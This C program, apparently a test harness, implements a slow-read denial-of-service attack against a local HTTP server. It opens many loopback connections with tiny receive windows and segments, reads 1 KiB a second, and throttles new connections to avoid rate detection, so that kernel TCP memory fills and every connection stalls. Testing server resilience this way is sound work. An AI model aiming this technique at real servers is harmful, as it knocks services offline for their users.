/*
 * Readers as slow as a server lets them be, with the small windows and the segments of an attack over a network. With the segments of the
 * loopback (64 KiB) the kernel keeps 2.6 MiB of each answer in the server's socket, whatever the server does: a few hundred such readers
 * take all the TCP memory of the machine (net.ipv4.tcp_mem), and every connection on it stands still.
 *
 *   slow-readers PORT COUNT
 *
 * It prints `open` when so many answers have begun, takes READ_BYTES a second of each, comes again where it is sent away, and lives until it
 * is killed.
 */
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

enum { SEGMENT_BYTES = 1460, WINDOW_BYTES = 8192, READ_BYTES = 1024 };
/* Each reader has its turn once a second. OPENED: new connections in a tick, so that their number is not the attack. */
enum { TICKS = 50, TICK_US = 1000000 / TICKS, OPENED = 16 };

static const char REQUEST[] = "GET /large HTTP/1.1\r\nHost: slow\r\n\r\n";

/* -1: none is to be had now. The request leaves at a later turn, once the connection is open. */
static int begin(const struct sockaddr_in *server) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), segment = SEGMENT_BYTES, window = WINDOW_BYTES;
  if (fd < 0) return -1;
  setsockopt(fd, IPPROTO_TCP, TCP_MAXSEG, &segment, sizeof segment);
  setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &window, sizeof window);
  if (connect(fd, (const struct sockaddr *)server, sizeof *server) == 0 || errno == EINPROGRESS) return fd;
  close(fd);
  return -1;
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  struct sockaddr_in server = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[1]))};
  server.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int count = atoi(argv[2]), begun = 0, told = 0;
  struct { int fd, asked, reads; } *readers = calloc((size_t)count, sizeof *readers);
  if (readers == NULL) return 1;
  for (int i = 0; i < count; i++) readers[i].fd = -1;
  signal(SIGPIPE, SIG_IGN);
  for (int tick = 0;; tick = (tick + 1) % TICKS) {
    int left = OPENED;
    for (int i = tick; i < count; i += TICKS) {
      char bytes[READ_BYTES];
      int fd = readers[i].fd;
      if (fd < 0) {
        if (left-- <= 0) continue;
        readers[i].fd = begin(&server);
        readers[i].asked = readers[i].reads = 0;
        continue;
      }
      ssize_t done = readers[i].asked ? read(fd, bytes, sizeof bytes) : write(fd, REQUEST, sizeof REQUEST - 1);
      if (done > 0) {
        if (readers[i].asked && !readers[i].reads) {
          readers[i].reads = 1;
          begun += 1;
        }
        readers[i].asked = 1;
      } else if (done == 0 || (done < 0 && errno != EAGAIN)) {
        close(fd);
        readers[i].fd = -1;
      }
    }
    if (begun >= count && !told) {
      told = 1;
      puts("open");
      fflush(stdout);
    }
    usleep(TICK_US);
  }
}
